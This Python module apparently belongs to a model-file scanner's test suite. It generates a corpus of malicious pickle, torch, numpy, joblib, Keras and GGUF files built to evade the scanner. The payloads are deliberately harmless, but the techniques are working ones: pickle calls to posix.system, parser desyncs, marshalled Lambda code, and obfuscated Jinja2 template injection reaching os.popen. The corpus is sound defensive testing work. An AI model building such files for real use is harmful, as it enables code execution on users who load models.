# ruff: noqa: E501 - a table of corpus entries reads best one entry per line
"""A corpus of malicious model files built by reading the scanner's code as an attacker would, generated on demand.

    >>> from pathlib import Path
    >>> from modelshield.testing.attack_corpus import write_attack_corpus
    >>> entries = write_attack_corpus(Path("attacks"))  # doctest: +SKIP
    >>> len(entries) >= 60  # doctest: +SKIP
    True

Each entry names the loader that runs its payload (see :mod:`modelshield.testing.oracle`, which confirms every
one by loading it for real), the family of technique, and the class of issue 14 it exercises: 1 callables on
neither of the policy's lists, 2 parsing that differs from the loader's, 3 text matching where structure is
needed, 4 false alarms (unused here). Nothing here ever runs a payload: files are assembled from raw pickle opcodes
and bytes, or written by the real libraries and then patched. Payloads only run ``true``, read a system file,
write a file relative to the loader's working directory, or connect to a closed port on 127.0.0.1.
"""

from __future__ import annotations

import base64
import functools
import io
import json
import marshal
import pickle
import struct
import zipfile
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path
from typing import Any, ClassVar

__all__ = ["AttackEntry", "write_attack_corpus"]


@dataclass(frozen=True)
class AttackEntry:
    """One generated malicious file: its name, the loader that runs it, its family and issue class (1-4)."""

    name: str
    loader: str
    family: str
    klass: int


# -- raw pickle assembly -----------------------------------------------------------------------------------------


class _Global:
    """A ``module.name`` reference, written as a GLOBAL opcode (never imported here)."""

    def __init__(self, module: str, name: str) -> None:
        self.module, self.name = module, name


class _Call:
    """``func(*args)`` written as GLOBAL (or a nested call), the argument tuple, REDUCE."""

    def __init__(self, func: _Global | _Call, *args: object) -> None:
        self.func, self.args = func, args


_PURE_PICKLER: Any = pickle._Pickler  # the pure-Python pickler: its dispatch table takes new types


class _Pickler(_PURE_PICKLER):  # type: ignore[misc]
    dispatch: ClassVar[dict[type, Any]] = dict(_PURE_PICKLER.dispatch)

    def save_global_ref(self, obj: _Global) -> None:
        self.write(b"c" + obj.module.encode() + b"\n" + obj.name.encode() + b"\n")

    def save_call(self, obj: _Call) -> None:
        self.save(obj.func)
        self.save(tuple(obj.args))
        self.write(pickle.REDUCE)

    dispatch[_Global] = save_global_ref
    dispatch[_Call] = save_call


def _dumps(obj: object, protocol: int = 2) -> bytes:
    buffer = io.BytesIO()
    _Pickler(buffer, protocol=protocol).dump(obj)
    return buffer.getvalue()


def _call(module: str, name: str, *args: object, protocol: int = 2) -> bytes:
    """A pickle that calls ``module.name(*args)`` on load."""
    return _dumps(_Call(_Global(module, name), *args), protocol)


def _v0_call(module: str, name: str, arg: str) -> bytes:
    """``module.name(arg)`` as a protocol-0 text pickle."""
    return f"c{module}\n{name}\n(V{arg}\ntR.".encode()


_TRUE = "true"
_READ = "/etc/passwd"  # a file outside every model folder; reading it is what the oracle watches for
_CLOSED = ("127.0.0.1", 9)  # the discard port on localhost: nothing listens, nothing leaves the machine


# -- class 1: callables on neither of the policy's lists -------------------------------------------------------


def _resolved_call(resolver: tuple[str, str], target: str, *args: object) -> bytes:
    """A resolver returns ``target`` (e.g. ``os.system``); the pickle then calls what it returned."""
    return _dumps(_Call(_Call(_Global(*resolver), target), *args))


def _legacy_torch(payload_at: int, payload: bytes) -> bytes:
    """A legacy (pre-1.6) ``torch.save`` stream of five pickles; the one at ``payload_at`` (1-5) is ``payload``."""
    pickles = [
        pickle.dumps(0x1950A86A20F9469CFC6C, 2),
        pickle.dumps(1001, 2),
        pickle.dumps(
            {"protocol_version": 1001, "little_endian": True, "type_sizes": {"short": 2, "int": 4, "long": 4}}, 2
        ),
        pickle.dumps({}, 2),
        pickle.dumps([], 2),
    ]
    pickles[payload_at - 1] = payload
    return b"".join(pickles)


def _class1() -> dict[str, tuple[str, str, Callable[[], bytes]]]:
    nested_torch = _legacy_torch(4, _v0_call("posix", "system", _TRUE))
    return {
        "c1.logging-filehandler.pkl": (
            "pickle",
            "file writer",
            lambda: _call("logging", "FileHandler", "h1-logging.log"),
        ),
        "c1.logging-watched-filehandler.pkl": (
            "pickle",
            "file writer",
            lambda: _call("logging.handlers", "WatchedFileHandler", "h1-watched.log"),
        ),
        "c1.logging-rotating-filehandler.pkl": (
            "pickle",
            "file writer",
            lambda: _call("logging.handlers", "RotatingFileHandler", "h1-rotating.log"),
        ),
        "c1.wave-write.pkl": ("pickle", "file writer", lambda: _call("wave", "Wave_write", "h1.wav")),
        "c1.numpy-memmap-write.pkl": (
            "pickle",
            "file writer",
            lambda: _call("numpy", "memmap", "h1.dat", "uint8", "w+", 0, (4,)),
        ),
        "c1.numpy-open-memmap.pkl": (
            "pickle",
            "file writer",
            lambda: _call("numpy.lib.format", "open_memmap", "h1-open.npy", "w+", "u1", (1,)),
        ),
        "c1.numpy-save.pkl": ("pickle", "file writer", lambda: _call("numpy", "save", "h1-save.npy", 0)),
        "c1.joblib-dump.pkl": ("pickle", "file writer", lambda: _call("joblib", "dump", 0, "h1.joblib")),
        "c1.joblib-binary-zlib-file.pkl": (
            "pickle",
            "file writer",
            lambda: _call("joblib.compressor", "BinaryZlibFile", "h1.z", "wb"),
        ),
        "c1.torch-save-native.pkl": ("pickle", "file writer", lambda: _call("torch", "save", {}, "h1-torch.pt")),
        "c1.zipapp-create.pkl": (
            "pickle",
            "file writer",
            lambda: _call("zipapp", "create_archive", "/etc/hostname", "h1.pyz"),
        ),
        "c1.xml-minidom-parse.pkl": ("pickle", "file reader", lambda: _call("xml.dom.minidom", "parse", _READ)),
        "c1.xml-etree-parse.pkl": ("pickle", "file reader", lambda: _call("xml.etree.ElementTree", "parse", _READ)),
        "c1.xml-pulldom-parse.pkl": ("pickle", "file reader", lambda: _call("xml.dom.pulldom", "parse", _READ)),
        "c1.mimetypes-read.pkl": ("pickle", "file reader", lambda: _call("mimetypes", "read_mime_types", _READ)),
        "c1.netrc-read.pkl": ("pickle", "file reader", lambda: _call("netrc", "netrc", _READ)),
        "c1.filecmp-read.pkl": ("pickle", "file reader", lambda: _call("filecmp", "cmp", _READ, _READ, False)),
        "c1.tabnanny-check.pkl": ("pickle", "file reader", lambda: _call("tabnanny", "check", _READ)),
        "c1.pstats-read.pkl": ("pickle", "file reader", lambda: _call("pstats", "Stats", _READ)),
        "c1.numpy-fromfile.pkl": ("pickle", "file reader", lambda: _call("numpy", "fromfile", _READ, "u1")),
        "c1.numpy-loadtxt.pkl": ("pickle", "file reader", lambda: _call("numpy", "loadtxt", _READ, str, "#", "\x00")),
        "c1.numpy-genfromtxt.pkl": ("pickle", "file reader", lambda: _call("numpy", "genfromtxt", _READ, str)),
        "c1.pandas-read-table.pkl": ("pickle", "file reader", lambda: _call("pandas", "read_table", _READ)),
        "c1.pandas-read-fwf.pkl": ("pickle", "file reader", lambda: _call("pandas", "read_fwf", _READ)),
        "c1.pandas-read-table-url.pkl": (
            "pickle",
            "url fetcher",
            lambda: _call("pandas", "read_table", "http://127.0.0.1:9/x.csv"),
        ),
        "c1.torch-model-zoo-load-url.pkl": (
            "pickle",
            "url fetcher",
            lambda: _call("torch.utils.model_zoo", "load_url", "http://127.0.0.1:9/x.pt"),
        ),
        "c1.logging-syslog-udp.pkl": (
            "pickle",
            "network",
            lambda: _call("logging.handlers", "SysLogHandler", ("localhost", 9)),
        ),
        "c1.sklearn-reexport-listener.pkl": (
            "pickle",
            "library-class re-export",
            lambda: _call("sklearn.callback._transport", "Listener", ("127.0.0.1", 0)),
        ),
        "c1.sklearn-reexport-client.pkl": (
            "pickle",
            "library-class re-export",
            lambda: _call("sklearn.callback._transport", "Client", _CLOSED),
        ),
        "c1.sklearn-reexport-threadpoolctl.pkl": (
            "pickle",
            "library-class re-export",
            lambda: _call("sklearn.utils.parallel", "ThreadpoolController"),
        ),
        "c1.logging-dictconfig-factory.pkl": (
            "pickle",
            "stdlib resolver",
            lambda: _call(
                "logging.config",
                "dictConfig",
                {"version": 1, "handlers": {"h": {"()": "subprocess.getoutput", "cmd": _TRUE}}},
            ),
        ),
        "c1.logging-config-resolve.pkl": (
            "pickle",
            "stdlib resolver",
            lambda: _resolved_call(("logging.config", "_resolve"), "posix.system", _TRUE),
        ),
        "c1.torch-import-dotted-name.pkl": (
            "pickle",
            "library resolver",
            lambda: _resolved_call(("torch._utils", "_import_dotted_name"), "posix.system", _TRUE),
        ),
        "c1.sympy-sympify.pkl": (
            "pickle",
            "evaluator",
            lambda: _call("sympy", "sympify", "__import__('posix').system('true')"),
        ),
        "c1.sympy-parse-expr.pkl": (
            "pickle",
            "evaluator",
            lambda: _call("sympy.parsing.sympy_parser", "parse_expr", "__import__('posix').system('true')"),
        ),
        "c1.torch-load-from-bytes.pkl": (
            "pickle",
            "nested deserialiser",
            lambda: _call("torch.storage", "_load_from_bytes", nested_torch),
        ),
        "c1.import-antigravity.pkl": (
            "pickle",
            "import side effect",
            lambda: _dumps(_Global("antigravity", "geohash")),
        ),
        "c1.import-this.pkl": ("pickle", "import side effect", lambda: _dumps(_Global("this", "s"))),
    }


# -- class 2: parsing that differs from the loader's -----------------------------------------------------------

_V7_FIELDS = (100, 8, 8, 8, 12, 12)


def _v7_tar(members: dict[str, bytes]) -> bytes:
    """A tar archive in the old V7 layout: no ``ustar`` magic, which tarfile (and torch) still read."""
    out = bytearray()
    for name, data in members.items():
        header = bytearray(512)
        header[0 : len(name)] = name.encode()
        header[100:108] = b"0000644\x00"
        header[108:116] = b"0000000\x00"
        header[116:124] = b"0000000\x00"
        header[124:136] = f"{len(data):011o}\x00".encode()
        header[136:148] = b"00000000000\x00"
        header[156] = ord("0")
        header[148:156] = b" " * 8
        checksum = sum(header)
        header[148:156] = f"{checksum:06o}\x00 ".encode()
        out += header + data + bytes(-len(data) % 512)
    return bytes(out + bytes(1024))


def _npy(descr: str, payload: bytes, version: int = 1) -> bytes:
    header = f"{{'descr': {descr}, 'fortran_order': False, 'shape': (1,), }}".encode()
    prefix = 10 if version == 1 else 12
    header = header.ljust(((prefix + len(header) + 1 + 63) // 64) * 64 - prefix - 1) + b"\n"
    size = struct.pack("<H", len(header)) if version == 1 else struct.pack("<I", len(header))
    return b"\x93NUMPY" + bytes([version, 0]) + size + header + payload


def _lz4(data: bytes) -> bytes:
    import lz4.frame  # type: ignore[import-untyped]

    return bytes(lz4.frame.compress(data))


def _joblib_dtype_desync() -> bytes:
    """A joblib array whose dtype is spelled ``float64``: joblib reads 8 bytes of data, a reader that cannot size
    the dtype reads them as opcodes (``N.``: a complete pickle) and never sees the payload that follows."""
    import joblib
    import numpy as np

    buffer = io.BytesIO()
    joblib.dump([np.zeros(1)], buffer)
    data = buffer.getvalue()
    data = data.replace(b"\x8c\x02f8", b"\x8c\x07float64", 1)
    raw = bytes(8)
    k = data.index(raw, data.index(b"float64"))
    # the padding-length byte and padding stay; the 8 data bytes read "None, STOP" to a naive walker
    data = data[:k] + b"N." + bytes(6) + data[k + 8 :]
    # after the array, joblib's unpickler carries on with the outer list: put a call there before it ends
    tail = data.rindex(b".")
    payload = b"cposix\nsystem\n(Vtrue\ntR0"
    return data[:tail] + payload + data[tail:]


def _class2() -> dict[str, tuple[str, str, Callable[[], bytes]]]:
    body = _v0_call("posix", "system", _TRUE)
    escaped_s = b"S'po\\x73ix'\nS'sys\\x74em'\n\x93(S'true'\ntR."
    escaped_v = b"V\\u0070osix\nV\\u0073ystem\n\x93(Vtrue\ntR."
    frame = _call("posix", "system", _TRUE, protocol=4)[2:]  # no PROTO: the FRAME opcode first
    return {
        "c2.headerless-global-first.pkl": ("pickle", "pickle without a header", lambda: body),
        "c2.headerless-trailing-junk.pkl": ("pickle", "pickle without a header", lambda: body + b"\x00junk"),
        "c2.headerless-frame-first.pkl": ("pickle", "pickle without a header", lambda: frame + b"\n"),
        "c2.headerless-pop-prefix.pkl": ("pickle", "pickle without a header", lambda: b"I1\n0" + body + b"\n"),
        "c2.headerless-binary-body.pkl": (
            "pickle",
            "pickle without a header",
            lambda: _call("posix", "system", _TRUE)[2:] + b"\x00",
        ),
        "c2.headerless-torch.pt": ("torch", "pickle without a header", lambda: body + b"\x00" * 7),
        "c2.string-escapes-stack-global.pkl": ("pickle", "protocol-0 string escapes", lambda: escaped_s),
        "c2.unicode-escapes-stack-global.pkl": ("pickle", "protocol-0 string escapes", lambda: escaped_v),
        "c2.legacy-torch-payload-2nd.pt": ("torch", "stacked legacy torch pickles", lambda: _legacy_torch(2, body)),
        "c2.legacy-torch-payload-3rd.pt": ("torch", "stacked legacy torch pickles", lambda: _legacy_torch(3, body)),
        "c2.legacy-torch-payload-4th.pt": ("torch", "stacked legacy torch pickles", lambda: _legacy_torch(4, body)),
        "c2.legacy-torch-payload-5th.pt": ("torch", "stacked legacy torch pickles", lambda: _legacy_torch(5, body)),
        "c2.v7-tar-storages.tar": (
            "torch",
            "tar without ustar magic",
            lambda: _v7_tar({"storages": body, "tensors": pickle.dumps(0, 2), "pickle": pickle.dumps({}, 2)}),
        ),
        "c2.v7-tar-tensors.tar": (
            "torch",
            "tar without ustar magic",
            lambda: _v7_tar({"storages": pickle.dumps(0, 2), "tensors": body, "pickle": pickle.dumps({}, 2)}),
        ),
        "c2.v7-tar-pickle.tar": (
            "torch",
            "tar without ustar magic",
            lambda: _v7_tar({"storages": pickle.dumps(0, 2), "tensors": pickle.dumps(0, 2), "pickle": body}),
        ),
        "c2.npy-descr-O.npy": ("numpy", "npy object dtype spelling", lambda: _npy("'O'", body)),
        "c2.npy-descr-object.npy": ("numpy", "npy object dtype spelling", lambda: _npy("'object'", body)),
        "c2.npy-descr-O8.npy": ("numpy", "npy object dtype spelling", lambda: _npy("'O8'", body)),
        "c2.npy-descr-little-O.npy": ("numpy", "npy object dtype spelling", lambda: _npy("'<O'", body)),
        "c2.npy-structured-object-field.npy": (
            "numpy",
            "npy object dtype spelling",
            lambda: _npy("[('a', '<i4'), ('b', 'O')]", body),
        ),
        "c2.npy-descr-O-version3.npy": ("numpy", "npy object dtype spelling", lambda: _npy("'O'", body, version=3)),
        "c2.npz-descr-O.npz": ("numpy", "npy object dtype spelling", lambda: _zip({"w.npy": _npy("'O'", body)})),
        "c2.joblib-lz4.joblib": ("joblib", "joblib lz4", lambda: _lz4(_call("posix", "system", _TRUE))),
        "c2.joblib-lz4-in-dict.joblib": (
            "joblib",
            "joblib lz4",
            lambda: _lz4(_dumps({"coef": [1.0, 2.0], "x": _Call(_Global("posix", "system"), _TRUE)})),
        ),
        "c2.joblib-dtype-desync.joblib": ("joblib", "joblib array desync", _joblib_dtype_desync),
    }


# -- class 3: text matching where structure is needed ----------------------------------------------------------


def _zip(members: dict[str, bytes]) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as zf:
        for name, data in members.items():
            zf.writestr(name, data)
    return buffer.getvalue()


def _lambda_code() -> str:
    """The base64 marshal of a function body that runs ``true`` (compiled, never called here)."""
    source = "lambda x: (__import__('posix').system('true'), x)[1]"
    code = compile(source, "<lambda>", "eval").co_consts[0]
    return base64.b64encode(marshal.dumps(code)).decode()


def _lambda_config() -> dict[str, object]:
    return {
        "module": "keras",
        "class_name": "Sequential",
        "config": {
            "name": "sequential",
            "layers": [
                {
                    "module": "keras.layers",
                    "class_name": "InputLayer",
                    "config": {"batch_shape": [None, 2], "dtype": "float32", "name": "input"},
                    "registered_name": None,
                },
                {
                    "module": "keras.layers",
                    "class_name": "Lambda",
                    "config": {
                        "name": "l",
                        "function": {
                            "class_name": "__lambda__",
                            "config": {"code": _lambda_code(), "defaults": None, "closure": None},
                        },
                        "arguments": {},
                    },
                    "registered_name": None,
                },
            ],
        },
        "registered_name": None,
    }


def _escape(text: str, words: tuple[str, ...]) -> str:
    for word in words:
        text = text.replace(f'"{word}"', '"' + "".join(f"\\u{ord(c):04x}" for c in word[:1]) + word[1:] + '"')
    return text


def _keras(config_text: str, *, weights: bool) -> bytes:
    members = {"metadata.json": json.dumps({"keras_version": "3.15.1"}).encode(), "config.json": config_text.encode()}
    if weights:
        members["model.weights.h5"] = _empty_h5()
    return _zip(members)


def _empty_h5() -> bytes:
    import h5py  # type: ignore[import-untyped]

    buffer = io.BytesIO()
    with h5py.File(buffer, "w") as f:
        f.create_group("layers")
    return buffer.getvalue()


def _h5_model(config_text: str) -> bytes:
    import h5py

    buffer = io.BytesIO()
    with h5py.File(buffer, "w") as f:
        f.attrs["model_config"] = config_text
        f.attrs["keras_version"] = "3.15.1"
        f.attrs["backend"] = "torch"
        f.create_group("model_weights")
    return buffer.getvalue()


def _gguf(template: str) -> bytes:
    def string(s: str) -> bytes:
        data = s.encode()
        return struct.pack("<Q", len(data)) + data

    kv = [
        string("general.architecture") + struct.pack("<I", 8) + string("llama"),
        string("tokenizer.chat_template") + struct.pack("<I", 8) + string(template),
    ]
    return b"GGUF" + struct.pack("<IQQ", 3, 0, len(kv)) + b"".join(kv)


_GGUF_TEMPLATES = {
    "attr-concat": "{% set g = cycler|attr('_'~'_init_'~'_')|attr('_'~'_glob'~'als_'~'_') %}{{ (g['o'~'s']|attr('po'~'pen'))('true')|attr('read')() }}",
    "attr-escapes": "{{ ((namespace|attr('\\x5f\\x5finit\\x5f\\x5f')|attr('\\x5f\\x5fglobals\\x5f\\x5f'))['o\\x73']|attr('popen'))('true')|attr('read')() }}",
    "dict-join-names": "{% set i = dict(_=1)|join ~ dict(_init=1)|join ~ dict(__=1)|join %}{% set gl = dict(__glob=1)|join ~ dict(als__=1)|join %}{{ ((lipsum|attr(gl))['o'~'s']|attr('sys'~'tem'))('true') }}",
    "subscript-concat": "{% for m in messages %}{{ m.content }}{% endfor %}{{ (range|attr('mro') if false else lipsum)['_'+'_glo'+'bals__']['o'+'s']['po'+'pen']('true')['re'+'ad']() }}",
    "format-names": "{% set n = '%c%cglobals%c%c'|format(95,95,95,95) %}{{ (lipsum|attr(n)).get('o'+'s')|attr('system') }}{{ ((lipsum|attr(n)).get('o'+'s')|attr('system'))('true') }}",
    "loop-built-name": "{% set parts = ['__', 'glo', 'bals', '__'] %}{% set g = lipsum|attr(parts|join) %}{% set o = g|attr('get') %}{{ (o('o'~'s')|attr('popen'))('true')|attr('read')() }}",
}


def _class3() -> dict[str, tuple[str, str, Callable[[], bytes]]]:
    lambda_text = json.dumps(_lambda_config())
    entries: dict[str, tuple[str, str, Callable[[], bytes]]] = {
        "c3.keras-lambda-no-weights.keras": (
            "keras-unsafe",
            "keras archive without weights",
            lambda: _keras(lambda_text, weights=False),
        ),
        "c3.keras-lambda-escaped.keras": (
            "keras-unsafe",
            "keras json escapes",
            lambda: _keras(_escape(lambda_text, ("Lambda", "__lambda__")), weights=True),
        ),
        "c3.keras-lambda-escaped-no-weights.keras": (
            "keras-unsafe",
            "keras json escapes",
            lambda: _keras(_escape(lambda_text, ("Lambda",)), weights=False),
        ),
        "c3.keras-lambda-escaped.h5": (
            "keras-unsafe",
            "keras json escapes",
            lambda: _h5_model(_escape(lambda_text, ("Lambda", "__lambda__"))),
        ),
        "c3.keras-lambda-split-key.h5": (
            "keras-unsafe",
            "keras json escapes",
            lambda: _h5_model(lambda_text.replace('"class_name": "Lambda"', '"class_name" :\n "Lambda"')),
        ),
    }
    for name, template in _GGUF_TEMPLATES.items():
        entries[f"c3.gguf-{name}.gguf"] = (
            "gguf-template",
            "gguf computed attribute names",
            functools.partial(_gguf, template),
        )
    return entries


def write_attack_corpus(root: Path) -> list[AttackEntry]:
    """Write every attack file under ``root`` (created if needed); the entries, in a stable order."""
    root.mkdir(parents=True, exist_ok=True)
    entries: list[AttackEntry] = []
    for klass, table in ((1, _class1()), (2, _class2()), (3, _class3())):
        for name, (loader, family, build) in table.items():
            (root / name).write_bytes(build())
            entries.append(AttackEntry(name=name, loader=loader, family=family, klass=klass))
    return entries
